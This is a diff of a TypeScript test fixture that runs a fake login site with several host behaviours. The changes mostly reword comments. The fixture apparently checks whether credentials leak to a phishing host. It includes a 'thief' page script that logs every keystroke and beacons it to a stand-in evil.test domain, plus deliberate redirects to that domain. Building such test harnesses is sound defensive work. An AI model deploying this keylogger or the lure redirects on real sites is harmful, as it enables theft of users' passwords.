@@ -1,4 +1,4 @@
-// A site that tests log in at, by hosts that each behave in their own way, and a site of thieves. Everything that either gets is recorded.
+// A site at which tests log in: each host behaves differently, and one belongs to thieves. The server records every request.
 import { randomBytes, randomInt } from 'node:crypto'
 import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
 import { text } from 'node:stream/consumers'
@@ -8,12 +8,13 @@ import { totpCode } from '../logins/totp.ts'
 const DOMAIN = 'canary-site.test'
 const THIEVES = 'canary-site-login.evil.test'
 const BASE32 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'
-/** After which a page that waits answers by itself: what holds it has been forgotten. */
+/** A held page is answered after this time, in case a test does not release it. */
 const HELD_MS = 20_000
 
 /**
- * `plain`: name and password. `two`: on two pages. `totp`: a code besides. `get`: its form is sent by GET, so that both are in the address, and the page of the user has the name
- * in its address, too. `lured`: leads to the thieves. `fleeing`: goes to the thieves when a field gets the focus. All repeat the name when something is wrong.
+ * `plain`: name and password. `two`: the two on separate pages. `totp`: also a code. `get`: its form uses GET, so both values are in the address, and the user's page
+ * has the name in its address. `lured`: redirects to the thieves. `fleeing`: goes to the thieves when a field gets the focus. Each host repeats the name in its error
+ * text.
  */
 const HOSTS = ['plain', 'two', 'totp', 'get', 'lured', 'fleeing'] as const
 export type CanaryHost = (typeof HOSTS)[number]
@@ -24,7 +25,7 @@ export interface CanaryUser {
   totpSecret: string
 }
 
-/** What nobody else can have written by chance. Letters of the name have different widths. */
+/** Random values that nobody else can have written. The letters of the name have different widths. */
 export function canaries(): CanaryUser {
   return {
     username: `wilmi${randomBytes(4).toString('hex')}mil`,
@@ -38,11 +39,11 @@ export interface CanarySite extends AsyncDisposable {
   hosts: string[]
   hostOf(name: CanaryHost): string
   requests: { host: string; method: string; path: string; body: string }[]
-  /** What the thieves were sent: everything but the requests for their page itself. */
+  /** The bodies that the thieves received. */
   stolen(): string[]
-  /** How often a form with a password was sent to a host of the site. A request that Chromium repeats by itself, because its connection broke before any answer, is the same sending. */
+  /** How many times a form with a password was sent to a host of the site. When a connection breaks before any answer, Chromium repeats the request; that counts once. */
   tries(name: CanaryHost): number
-  /** From now on, forms with a password are answered when the returned function is called: their page stays as it is, filled, until then. */
+  /** Holds the answers to forms with a password until the returned function is called. Until then the page stays filled in. */
   hold(): () => void
 }
 
@@ -55,7 +56,7 @@ const form = (action: string, fields: string, error = '', method = 'post') =>
   page(`<h1>Log in</h1>${error && `<p role="alert">${error}</p>`}<form method="${method}" action="${action}">${fields}<input type="hidden" name="sending"><button>Log in</button></form>
     <script>document.querySelector('form').addEventListener('submit', ({ target }) => (target.elements.sending.value = Math.random()))</script>`)
 const CODE = '<label>Code of your authenticator app <input name="code" inputmode="numeric" maxlength="6" autocomplete="one-time-code"></label>'
-/** Sends every key and every value of its fields home. */
+/** Sends every key and every value of its fields to the thieves' server. */
 const THIEF = `${form('/login', USER + PASSWORD)}<script>
 const tell = (what) => navigator.sendBeacon('/key', what)
 addEventListener('keydown', (event) => tell(event.key), true)
@@ -94,7 +95,7 @@ export async function startCanarySite(user: CanaryUser): Promise<CanarySite> {
     if (sent.has('password')) {
       const isRight = sent.get('password') === user.password && (name === 'two' ? steps.has('name') : sent.get('username') === user.username)
       if (isRight && name === 'get') {
-        // The page of the user, at the address with the password.
+        // The user's page, at the address that contains the password.
         sessions.set(key, steps.add('in'))
         reply.setHeader('set-cookie', `canary_session=${key}; Path=/; HttpOnly; Max-Age=86400`)
         return void show(page('<h1>Welcome</h1><a href="/logout">Log out</a>'))
